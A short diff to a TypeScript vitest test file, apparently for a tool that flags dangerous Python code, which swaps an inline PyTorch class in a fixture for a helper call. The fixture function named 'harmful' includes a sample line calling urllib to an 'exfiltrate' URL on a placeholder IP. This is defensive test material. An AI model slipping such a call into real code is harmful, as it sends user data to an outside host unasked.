@@ -11,6 +11,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { BIN, requireBundle } from '../helpers/cli-run';
 import { editorCapabilities, LspSession, uriOf } from '../lsp/lsp-client';
 import { recordCount, REPO } from './fixtures';
+import { unconstrainedStdClass } from '../helpers/snippets';
 
 const HOOK = path.join(__dirname, 'no-exec-hook.cjs');
 
@@ -29,14 +30,7 @@ function harmful(marker: string): string {
     'urllib.request.urlopen("http://192.0.2.1/exfiltrate")',
     '',
     '',
-    'class StageNoise(nn.Module):',
-    '    def __init__(self):',
-    '        super().__init__()',
-    '        self.sigma = nn.Parameter(torch.full((6,), 0.2))',
-    '',
-    '    def forward(self, x):',
-    '        return x + self.sigma * torch.randn_like(x)',
-    '',
+    ...unconstrainedStdClass('StageNoise'),
   ].join('\n');
 }
 
